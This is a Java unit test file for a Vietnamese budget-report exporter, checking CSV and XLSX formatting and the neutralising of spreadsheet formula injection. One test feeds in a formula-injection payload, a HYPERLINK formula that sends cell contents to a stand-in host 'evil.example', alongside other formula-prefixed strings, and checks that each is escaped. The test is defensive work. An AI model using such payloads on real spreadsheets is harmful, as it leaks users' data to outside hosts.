package vn.taphuan.reporting.export;

import org.apache.poi.ss.usermodel.DataFormatter;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayInputStream;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;
import java.util.Locale;

import static org.assertj.core.api.Assertions.assertThat;

class WorkbooksTest {

    static Table table() {
        return Table.named("Kinh phí", "KINH PHÍ").note("Tỉnh Bắc Giang")
                .column("Nguồn; ghi chú", Table.Type.TEXT).column("Dự toán (đồng)", Table.Type.MONEY)
                .column("Tỷ lệ (%)", Table.Type.PERCENT).column("Ngày", Table.Type.DATE)
                .row("Ngân sách \"trung ương\"", 6_889_000_000L, new BigDecimal("80.6"), LocalDate.parse("2023-03-20"))
                .row("Xã hội hóa", null, null, null)
                .build();
    }

    @Test
    void csvIsUtf8WithABomSemicolonsAndVietnameseNumbers() {
        byte[] csv = Workbooks.csv(table());

        assertThat(java.util.Arrays.copyOf(csv, 3)).containsExactly(0xEF, 0xBB, 0xBF);
        List<String> lines = new String(csv, StandardCharsets.UTF_8).substring(1).lines().toList();
        assertThat(lines).containsExactly(
                "\"Nguồn; ghi chú\";Dự toán (đồng);Tỷ lệ (%);Ngày",
                "\"Ngân sách \"\"trung ương\"\"\";6.889.000.000;80,6;20/03/2023",
                "Xã hội hóa;;;");
    }

    @Test
    void textThatASpreadsheetWouldTakeForAFormulaIsNeutralisedButNegativeNumbersStayNumbers() {
        Table table = Table.named("Kế hoạch", "KẾ HOẠCH")
                .column("=Tiêu đề", Table.Type.TEXT).column("Số lượt", Table.Type.COUNT)
                .column("Đã chi (đồng)", Table.Type.MONEY).column("Tỷ lệ (%)", Table.Type.PERCENT)
                .row("=HYPERLINK(\"http://evil.example/?\"&A1;\"Kế hoạch\")", -1_500L, -6_889_000L, new BigDecimal("-2.5"))
                .row("+1+1", 0L, 0L, null)
                .row("-2+3", null, null, null)
                .row("@SUM(1+1)", null, null, null)
                .row("\t=1+1", null, null, null)
                .row("\r=1+1", null, null, null)
                .row("Kế hoạch = 2023", null, null, null)
                .build();

        String csv = new String(Workbooks.csv(table), StandardCharsets.UTF_8).substring(1);
        assertThat(csv.split("\r\n")).containsExactly(
                "\"'=Tiêu đề\";Số lượt;Đã chi (đồng);Tỷ lệ (%)",
                "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"Kế hoạch\"\")\";-1.500;-6.889.000;-2,5",
                "\"'+1+1\";0;0;",
                "\"'-2+3\";;;",
                "\"'@SUM(1+1)\";;;",
                "\"'\t=1+1\";;;",
                "\"'\r=1+1\";;;",
                "Kế hoạch = 2023;;;");
    }

    @Test
    void theWorkbookKeepsNumbersAsNumbersFormattedForAVietnameseSpreadsheet() throws Exception {
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(Workbooks.xlsx(List.of(table()))))) {
            Sheet sheet = workbook.getSheet("Kinh phí");
            assertThat(sheet.getRow(0).getCell(0).getStringCellValue()).isEqualTo("KINH PHÍ");
            assertThat(Workbooks.headerRow(table())).isEqualTo(3);
            Row row = sheet.getRow(4);
            assertThat(row.getCell(1).getNumericCellValue()).isEqualTo(6_889_000_000d);
            DataFormatter vietnamese = new DataFormatter(Locale.forLanguageTag("vi-VN"));
            assertThat(vietnamese.formatCellValue(row.getCell(1))).isEqualTo("6.889.000.000");
            assertThat(vietnamese.formatCellValue(row.getCell(2))).isEqualTo("80,6");
            assertThat(row.getCell(3).getLocalDateTimeCellValue().toLocalDate()).isEqualTo(LocalDate.parse("2023-03-20"));
            assertThat(sheet.getRow(5).getCell(1)).isNull();
        }
    }
}
